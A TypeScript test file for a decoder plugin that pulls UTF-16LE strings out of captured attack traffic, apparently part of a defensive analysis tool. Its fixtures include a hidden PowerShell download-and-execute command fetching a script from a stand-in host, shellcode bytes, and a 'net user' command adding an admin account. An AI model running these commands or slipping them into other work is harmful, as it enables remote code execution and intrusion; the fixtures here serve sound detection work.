import { randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createDeUnicodePlugin, DeUnicodeOptions } from '../../src/plugins/decoders/de-unicode.js'
import { decodeUtf16le, findUtf16Runs, isMostlyPrintable, isUtf16leText, utf16leToUtf8 } from '../../src/plugins/decoders/utf16.js'
import { attackOf, runPlugin, subjectOf } from '../helpers/plugin-harness.js'

function u16(text: string): Buffer {
  return Buffer.from(text, 'utf16le')
}

const plugin = createDeUnicodePlugin(DeUnicodeOptions.parse(undefined))

const TREE_PATH = '\\\\198.18.0.1\\IPC$'
const COMMAND = 'cmd.exe /c powershell -nop -w hidden -c "iwr http://203.0.113.9/p.ps1|iex"'

/**
 * An SMB2 TREE_CONNECT, then a DCE-RPC svcctl CreateServiceW-like stub whose command is an NDR string (max count,
 * offset, actual count, then the UTF-16LE text and its NUL).
 */
function smbLikeBlob(): Buffer {
  const netbios = Buffer.from([0x00, 0x00, 0x00, 0x9c])
  const smb2 = Buffer.concat([Buffer.from([0xfe, 0x53, 0x4d, 0x42, 0x40, 0x00, 0x01, 0x00]), Buffer.alloc(56, 0)])
  // StructureSize 9, Reserved, PathOffset 0x48, PathLength 0x22: the last two read as 'H' and '"' in UTF-16LE.
  const treeConnect = Buffer.from([0x09, 0x00, 0x00, 0x00, 0x48, 0x00, 0x22, 0x00])
  const rpc = Buffer.from([0x05, 0x00, 0x00, 0x03, 0x10, 0x00, 0x00, 0x00, 0xa4, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00])
  const count = Buffer.alloc(4)
  count.writeUInt32LE(COMMAND.length + 1)
  const ndr = Buffer.concat([count, Buffer.alloc(4), count])
  return Buffer.concat([netbios, smb2, treeConnect, u16(TREE_PATH), rpc, ndr, u16(COMMAND), Buffer.from([0x00, 0x00, 0x13, 0x02])])
}

// What the blob yields: the tree connect's offset and length fields are ASCII in UTF-16LE, as `strings -el` shows too.
const SMB_TEXTS = [`H"${TREE_PATH}`, COMMAND]

describe('decodeUtf16le', () => {
  it('round-trips arbitrary ASCII and Unicode strings', () => {
    for (const unit of ['binary', 'binary-ascii', 'grapheme'] as const) {
      fc.assert(
        fc.property(fc.string({ unit, maxLength: 200 }), (text) => {
          expect(decodeUtf16le(u16(text))).toBe(text)
          expect(utf16leToUtf8(u16(text)).toString('utf8')).toBe(text)
        }),
        { numRuns: 300 },
      )
    }
  })

  it('replaces lone surrogates and an odd last byte instead of throwing', () => {
    expect(decodeUtf16le(Buffer.alloc(0))).toBe('')
    expect(decodeUtf16le(Buffer.from([0x41]))).toBe('\ufffd')
    expect(decodeUtf16le(Buffer.from([0x41, 0x00, 0x42]))).toBe('A\ufffd')
    expect(decodeUtf16le(Buffer.from([0x00, 0xd8, 0x41, 0x00]))).toBe('\ufffdA') // high surrogate, no low one
    expect(decodeUtf16le(Buffer.from([0x00, 0xdc, 0x00, 0xd8]))).toBe('\ufffd\ufffd') // low then high
    expect(decodeUtf16le(Buffer.from([0x3d, 0xd8, 0x00, 0xde]))).toBe('\u{1f600}')
    expect(utf16leToUtf8(Buffer.from([0x00, 0xd8])).toString('hex')).toBe('efbfbd')
  })

  it('never throws on arbitrary bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
        const text = decodeUtf16le(bytes)
        expect(text.length).toBe(Math.ceil(bytes.length / 2))
        expect(findUtf16Runs(bytes, { minChars: 2 }).every((r) => r.offset + r.byteLength <= bytes.length)).toBe(true)
      }),
      { numRuns: 500 },
    )
  })
})

describe('isMostlyPrintable', () => {
  it('counts graphic characters and whitespace, not controls or U+FFFD', () => {
    expect(isMostlyPrintable('', 0.9)).toBe(false)
    expect(isMostlyPrintable('C:\\Windows\\System32\\cmd.exe\r\n', 0.9)).toBe(true)
    expect(isMostlyPrintable('Привет, 世界 😀', 0.9)).toBe(true)
    expect(isMostlyPrintable('abcdefghi\u0000', 0.9)).toBe(true)
    expect(isMostlyPrintable('abcdefgh\u0000\u0001', 0.9)).toBe(false)
    expect(isMostlyPrintable('abcdefgh\ufffd\ufffd', 0.9)).toBe(false)
    expect(isMostlyPrintable('\ue000\uffff\u200b', 0.1)).toBe(false) // private use, noncharacter, format
  })

  it('tells UTF-16LE text from binary', () => {
    expect(isUtf16leText(u16('IEX (New-Object Net.WebClient)'), 0.9)).toBe(true)
    expect(isUtf16leText(Buffer.from('IEX (New-Object Net.WebClient)'), 0.9)).toBe(false)
    expect(isUtf16leText(Buffer.from([0x41, 0x00, 0x42]), 0.9)).toBe(false)
  })
})

describe('findUtf16Runs', () => {
  it('finds the strings of an SMB-like blob, and no misaligned shadows', () => {
    const blob = smbLikeBlob()
    const runs = findUtf16Runs(blob, { minChars: 8 })
    expect(runs.map((r) => r.text)).toEqual(SMB_TEXTS)
    expect(blob.subarray(runs[1]?.offset, (runs[1]?.offset ?? 0) + (runs[1]?.byteLength ?? 0))).toEqual(u16(COMMAND))
  })

  it('finds strings at odd offsets (shellcode data)', () => {
    const shellcode = Buffer.concat([Buffer.from('fce8820000006089e531c0648b5030', 'hex'), u16('kernel32.dll'), Buffer.from([0x00, 0x00, 0xff]), u16('C:\\Windows\\Temp\\svch0st.exe'), Buffer.from([0, 0])])
    const runs = findUtf16Runs(shellcode, { minChars: 8 })
    expect(runs.map((r) => [r.text, r.offset % 2])).toEqual([
      ['kernel32.dll', 1],
      ['C:\\Windows\\Temp\\svch0st.exe', 0],
    ])
  })

  it('trims CJK-looking noise glued to ASCII at a run edge, and keeps real non-ASCII words', () => {
    const noise = Buffer.from([0x31, 0xc0, 0x64, 0x8b]) // U+C031 U+8B64: Hangul and Han, as code bytes read
    const glued = Buffer.concat([Buffer.from([0, 0]), noise, u16('LoadLibraryA'), noise, Buffer.from([0, 0])])
    expect(findUtf16Runs(glued, { minChars: 8 }).map((r) => [r.text, r.offset, r.byteLength])).toEqual([['LoadLibraryA', 6, 24]])
    const name = Buffer.concat([Buffer.from([0, 0]), u16('C:\\Users\\张三'), Buffer.from([0, 0])])
    expect(findUtf16Runs(name, { minChars: 8 }).map((r) => r.text)).toEqual(['C:\\Users\\张三'])
  })

  it('keeps non-ASCII text and surrogate pairs that sit among ASCII', () => {
    const path = 'C:\\Users\\张三\\Desktop\\恶意😀.exe'
    const runs = findUtf16Runs(Buffer.concat([Buffer.from([0x01, 0x00, 0x02, 0x00]), u16(path), Buffer.from([0x00, 0x00, 0x00, 0x00])]), { minChars: 8 })
    expect(runs.map((r) => [r.text, r.chars])).toEqual([[path, [...path].length]])
  })

  it('bridges a lone surrogate between ASCII characters, and ends runs at NULs and controls', () => {
    const lone = Buffer.concat([u16('abcdef'), Buffer.from([0x00, 0xd8]), u16('ghijkl')])
    expect(findUtf16Runs(lone, { minChars: 8 }).map((r) => [r.text, r.chars])).toEqual([['abcdef\ufffdghijkl', 13]])
    const twoLone = Buffer.concat([u16('abcdefgh'), Buffer.from([0x00, 0xd8, 0x00, 0xd8]), u16('ijklmnop')])
    expect(findUtf16Runs(twoLone, { minChars: 8 }).map((r) => r.text)).toEqual(['abcdefgh', 'ijklmnop'])
    const argv = Buffer.concat([u16('cmd.exe /c whoami'), Buffer.from([0, 0]), u16('net user admin P@ss /add'), Buffer.from([0x07, 0x00]), u16('tasklist /v')])
    expect(findUtf16Runs(argv, { minChars: 8 }).map((r) => r.text)).toEqual(['cmd.exe /c whoami', 'net user admin P@ss /add', 'tasklist /v'])
  })

  it('drops runs that are short or hold too little ASCII', () => {
    expect(findUtf16Runs(u16('short'), { minChars: 8 })).toEqual([])
    expect(findUtf16Runs(u16('中文字符没有拉丁字母的文本'), { minChars: 8 })).toEqual([])
    expect(findUtf16Runs(u16('中文字符没有拉丁字母的文本'), { minChars: 8, minAsciiShare: 0 }).map((r) => r.text)).toContain('中文字符没有拉丁字母的文本')
    expect(findUtf16Runs(Buffer.alloc(0), { minChars: 1 })).toEqual([])
    expect(findUtf16Runs(Buffer.from([0x41]), { minChars: 1 })).toEqual([])
    // One text unit at the end of an odd-length buffer: both alignments are read to their last whole unit.
    expect(findUtf16Runs(Buffer.from([0xff, 0x41, 0x00]), { minChars: 1 }).map((r) => r.text)).toEqual(['A'])
  })
})

describe('deUnicode plugin', () => {
  it('has strict options with defaults', () => {
    expect(DeUnicodeOptions.parse(undefined)).toEqual({ minChars: 8, printableRatio: 0.9, maxPayloads: 8 })
    expect(() => DeUnicodeOptions.parse({ minChar: 8 })).toThrow()
    expect(() => DeUnicodeOptions.parse({ printableRatio: 2 })).toThrow()
  })

  it('yields the UTF-8 of the UTF-16LE strings of an SMB-like attack', async () => {
    const collected = await runPlugin(plugin, subjectOf(attackOf(smbLikeBlob(), { target: { address: '198.18.0.1', port: 445 } })))
    expect(collected.payloads).toEqual(SMB_TEXTS.map((text) => ({ data: Buffer.from(text), origin: 'deUnicode' })))
    expect(collected.artifacts).toEqual([])
  })

  it('keeps the longest runs under the cap, in offset order, each text once', async () => {
    const strings = Array.from({ length: 20 }, (_, i) => `\\\\host\\share\\${'x'.repeat(i)}file.dll`)
    const data = Buffer.concat([...strings, strings[0] ?? ''].map((s) => Buffer.concat([u16(s), Buffer.from([0, 0, 7, 0])])))
    const collected = await runPlugin(plugin, subjectOf(attackOf(data)))
    expect(collected.payloads.map((p) => p.data.toString())).toEqual(strings.slice(12))
  })

  it('applies the printable ratio and the minimum length', async () => {
    // Every other unit a lone surrogate: a run of broken text, half of it U+FFFD.
    const gappy = Buffer.concat(Array.from('ABCDEFGHIJ', (c) => Buffer.concat([u16(c), Buffer.from([0x00, 0xd8])])))
    expect((await runPlugin(plugin, subjectOf(attackOf(gappy)))).payloads).toEqual([])
    const loose = createDeUnicodePlugin(DeUnicodeOptions.parse({ printableRatio: 0.5 }))
    expect((await runPlugin(loose, subjectOf(attackOf(gappy)))).payloads).toHaveLength(1)
    const long = createDeUnicodePlugin(DeUnicodeOptions.parse({ minChars: 40 }))
    expect((await runPlugin(long, subjectOf(attackOf(smbLikeBlob())))).payloads.map((p) => p.data.toString())).toEqual([COMMAND])
  })

  it('yields nothing for plain ASCII and survives empty, 1-byte and 1 MiB random subjects', async () => {
    expect((await runPlugin(plugin, subjectOf(attackOf('GET / HTTP/1.1\r\nHost: example\r\n\r\n')))).payloads).toEqual([])
    const started = performance.now()
    for (const data of [Buffer.alloc(0), Buffer.from([0x41]), randomBytes(1024 * 1024)]) {
      const collected = await runPlugin(plugin, subjectOf(attackOf(data)))
      expect(collected.payloads.length).toBeLessThanOrEqual(8)
    }
    expect(performance.now() - started).toBeLessThan(3000)
  })
})
